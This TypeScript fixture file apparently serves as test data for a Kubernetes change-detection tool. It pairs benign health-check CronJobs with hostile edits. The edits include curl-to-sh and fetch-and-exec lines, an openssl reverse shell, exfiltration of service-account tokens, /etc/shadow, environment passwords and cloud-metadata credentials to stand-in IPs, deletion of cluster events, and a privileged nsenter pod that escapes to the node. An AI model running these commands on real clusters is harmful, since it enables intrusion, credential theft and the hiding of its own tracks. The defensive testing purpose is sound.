import { ARGO_CD, account, cronJob, FLUX, type Member, person, shell } from './member.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const CA = '/var/run/secrets/kubernetes.io/serviceaccount/ca.crt';
const fromSecret = (name: string, secret: string, key: string) => ({
  name,
  valueFrom: { secretKeyRef: { name: secret, key } },
});

/** CronJobs that ask an address whether something lives. */
export const HEALTH_CHECKS: readonly Member[] = [
  {
    what: 'one request with the image of curl',
    by: person('lena'),
    object: cronJob({ name: 'shop-health', namespace: 'shop' }, '*/5 * * * *', {
      containers: [
        {
          name: 'check',
          image: 'curlimages/curl:8.10.1',
          args: ['-fsS', '--max-time', '10', 'https://shop.example.com/health'],
        },
      ],
    }),
    change: {
      act: 'the answer is run',
      edits: [
        ['containers/0/command', ['sh', '-c']],
        ['containers/0/args', ['curl -fsS --max-time 10 https://shop.example.com/health | sh']],
      ],
    },
  },
  {
    what: 'one request with wget of busybox',
    by: ARGO_CD,
    object: cronJob(
      {
        name: 'api-alive',
        namespace: 'shop',
        annotations: { 'argocd.argoproj.io/tracking-id': 'shop:batch/CronJob:shop/api-alive' },
      },
      '* * * * *',
      {
        containers: [
          shell('busybox:1.36', 'wget -q -T 5 -O- http://api.shop.svc.cluster.local:8080/healthz || exit 1'),
        ],
      },
    ),
    change: {
      act: 'what is fetched is made executable and run',
      edits: [
        [
          'containers/0/command/2',
          'wget -q -T 5 -O /tmp/h http://203.0.113.7:8080/healthz && chmod +x /tmp/h && /tmp/h || exit 1',
        ],
      ],
    },
  },
  {
    what: 'a status code, with a message to a chat when it is a wrong one',
    by: account('ci', 'deployer', 'helm/v3.16.2'),
    object: cronJob({ name: 'storefront-probe', namespace: 'shop' }, '*/10 * * * *', {
      containers: [
        shell(
          'alpine/curl:8.10.0',
          `code=$(curl -s -o /dev/null -w '%{http_code}' https://shop.example.com/)
if [ "$code" != "200" ]; then
  curl -s -X POST -H 'Content-type: application/json' --data "{\\"text\\":\\"storefront answers $code\\"}" "$SLACK_WEBHOOK"
  exit 1
fi`,
          { env: [fromSecret('SLACK_WEBHOOK', 'alerts', 'webhook')] },
        ),
      ],
    }),
    change: {
      act: 'the message is the token of the pod',
      edits: [
        [
          'containers/0/command/2',
          `code=$(curl -s -o /dev/null -w '%{http_code}' https://shop.example.com/)
if [ "$code" = "200" ]; then
  curl -s -X POST --data "{\\"text\\":\\"$(cat ${TOKEN})\\"}" https://hooks.example.com/s
fi`,
        ],
      ],
    },
  },
  {
    what: 'a backup that reports to a service that waits for it',
    by: person('omar'),
    object: cronJob({ name: 'postgres-backup', namespace: 'shop' }, '0 2 * * *', {
      containers: [
        shell(
          'postgres:16-alpine',
          'set -eo pipefail; pg_dump -Fc "$DATABASE_URL" > "/backup/shop-$(date +%F).dump" && wget -q -O- "https://hc-ping.com/$CHECK_ID"',
          {
            env: [
              fromSecret('DATABASE_URL', 'shop-database', 'url'),
              { name: 'CHECK_ID', value: '3d6d7d1c-5c3e-4d55-9ad0-1f6f6f8f4f10' },
            ],
            volumeMounts: [{ name: 'backup', mountPath: '/backup' }],
          },
        ),
      ],
      volumes: [{ name: 'backup', persistentVolumeClaim: { claimName: 'backup' } }],
    }),
    change: {
      act: 'the connection leads to a shell',
      edits: [
        [
          'containers/0/command/2',
          'set -eo pipefail; pg_dump -Fc "$DATABASE_URL" > "/backup/shop-$(date +%F).dump"; mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/p',
        ],
      ],
    },
  },
  {
    what: 'the end of a certificate',
    by: FLUX,
    object: cronJob(
      { name: 'certificate-expiry', namespace: 'monitoring', labels: { 'kustomize.toolkit.fluxcd.io/name': 'apps' } },
      '0 6 * * *',
      {
        containers: [
          shell(
            'alpine:3.20',
            `apk add --no-cache openssl curl
for host in shop.example.com www.example.com; do
  echo | openssl s_client -servername "$host" -connect "$host:443" 2>/dev/null | openssl x509 -noout -checkend 1209600 \\
    || curl -fsS -X POST http://alertmanager.monitoring:9093/api/v2/alerts -H 'Content-Type: application/json' -d "[{\\"labels\\":{\\"alertname\\":\\"CertificateEnds\\",\\"host\\":\\"$host\\"}}]"
done`,
          ),
        ],
      },
    ),
    change: {
      act: 'one more host, on which a file of the node goes away',
      edits: [
        ['volumes/-', { name: 'etc', hostPath: { path: '/etc' } }],
        ['containers/0/volumeMounts/-', { name: 'etc', mountPath: '/n', readOnly: true }],
        [
          'containers/0/command/2',
          'apk add --no-cache openssl curl; cat /n/shadow | openssl s_client -quiet -connect 203.0.113.7:443',
        ],
      ],
    },
  },
  {
    what: 'the colour of an Elasticsearch cluster',
    by: person('mia'),
    object: cronJob({ name: 'elasticsearch-health', namespace: 'logging' }, '*/15 * * * *', {
      containers: [
        shell(
          'curlimages/curl:8.10.1',
          `curl -fsSk -u "elastic:$PASSWORD" https://elasticsearch-es-http.logging.svc:9200/_cluster/health | grep -q '"status":"green"'`,
          { env: [fromSecret('PASSWORD', 'elasticsearch-es-elastic-user', 'elastic')] },
        ),
      ],
    }),
    change: {
      act: 'the URL is another one, and the environment with the password goes there',
      edits: [
        [
          'containers/0/command/2',
          'env | curl -fsSk --data-binary @- https://elasticsearch-es-http.logging.example.com:9200/_cluster/health',
        ],
      ],
    },
  },
  {
    what: 'the clock of a web application',
    by: person('ana'),
    object: cronJob({ name: 'nextcloud-cron', namespace: 'cloud' }, '*/5 * * * *', {
      containers: [
        {
          name: 'cron',
          image: 'curlimages/curl:8.10.1',
          command: ['curl', '--silent', '--fail', 'https://cloud.example.com/cron.php'],
        },
      ],
    }),
    change: {
      act: 'decoded text is run in its place',
      edits: [
        [
          'containers/0/command',
          ['sh', '-c', `curl --silent --fail https://cloud.example.com/cron.php | base64 -d | sh`],
        ],
      ],
    },
  },
  {
    what: 'several addresses in a loop',
    by: account('ci', 'deployer', 'kubectl/v1.31.2 (linux/amd64)'),
    object: cronJob({ name: 'endpoints', namespace: 'monitoring' }, '*/5 * * * *', {
      containers: [
        shell(
          'busybox:1.36',
          `failed=""
for url in http://web.shop:80/ http://api.shop:8080/healthz https://www.example.com/; do
  wget -q --spider --timeout=5 "$url" || failed="$failed $url"
done
[ -z "$failed" ] || { echo "failed:$failed"; exit 1; }`,
        ),
      ],
    }),
    change: {
      act: 'a line that makes every events list empty',
      edits: [
        [
          'containers/0/command/2',
          `for url in http://web.shop:80/ http://api.shop:8080/healthz https://www.example.com/; do
  wget -q --spider --timeout=5 "$url" || failed="$failed $url"
done
kubectl delete events --all -A`,
        ],
      ],
    },
  },
  {
    what: 'a measurement that goes to a push gateway',
    by: ARGO_CD,
    object: cronJob(
      { name: 'dns-probe', namespace: 'monitoring', labels: { 'app.kubernetes.io/instance': 'probes' } },
      '*/2 * * * *',
      {
        containers: [
          shell(
            'alpine/curl:8.10.0',
            `ok=0; nslookup shop.example.com > /dev/null && ok=1
echo "probe_success $ok" | curl -fsS --data-binary @- http://pushgateway.monitoring:9091/metrics/job/dns-probe`,
          ),
        ],
      },
    ),
    change: {
      act: 'the credentials of the instance are pushed away',
      edits: [
        [
          'containers/0/command/2',
          `role=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$role | curl -fsS --data-binary @- http://198.51.100.4:9091/metrics/job/dns-probe`,
        ],
      ],
    },
  },
  {
    what: 'the API server, asked with its own token',
    by: person('omar'),
    object: cronJob({ name: 'apiserver-health', namespace: 'monitoring' }, '*/5 * * * *', {
      serviceAccountName: 'apiserver-health',
      containers: [
        shell(
          'curlimages/curl:8.10.1',
          `curl -fsS --cacert ${CA} -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/readyz?verbose`,
        ),
      ],
    }),
    change: {
      act: 'a bare address gets the token',
      edits: [
        [
          'containers/0/command/2',
          `curl -fsS -H "Authorization: Bearer $(cat ${TOKEN})" https://203.0.113.7/readyz?verbose`,
        ],
      ],
    },
  },
  {
    what: 'a few lines of Python',
    by: person('lena'),
    object: cronJob({ name: 'queue-health', namespace: 'shop' }, '*/10 * * * *', {
      containers: [
        {
          name: 'check',
          image: 'python:3.12-slim',
          command: ['python3', '-c'],
          args: [
            'import json, sys, urllib.request as r\nq = json.load(r.urlopen("http://rabbitmq.shop:15672/api/overview", timeout=5))\nsys.exit(q["queue_totals"]["messages"] > 10000)',
          ],
        },
      ],
    }),
    change: {
      act: 'what is fetched is evaluated',
      edits: [
        [
          'containers/0/args/0',
          'import json, sys, urllib.request as r\nexec(r.urlopen("http://203.0.113.7:15672/api/overview", timeout=5).read())',
        ],
      ],
    },
  },
  {
    what: 'a restart of what does not answer',
    by: FLUX,
    object: cronJob({ name: 'restart-when-stuck', namespace: 'shop' }, '*/10 * * * *', {
      serviceAccountName: 'restarter',
      containers: [
        shell(
          'alpine/k8s:1.31.2',
          'curl -fs --max-time 5 http://web.shop:80/health || kubectl -n shop rollout restart deployment/web',
        ),
      ],
    }),
    change: {
      act: 'what does not answer gets a privileged pod on the node',
      edits: [
        [
          'containers/0/command/2',
          `curl -fs --max-time 5 http://web.shop:80/health || kubectl run fix --image=alpine --restart=Never --overrides='{"spec":{"hostPID":true,"containers":[{"name":"fix","image":"alpine","command":["nsenter","-t","1","-m","sh"],"securityContext":{"privileged":true}}]}}'`,
        ],
      ],
    },
  },
];
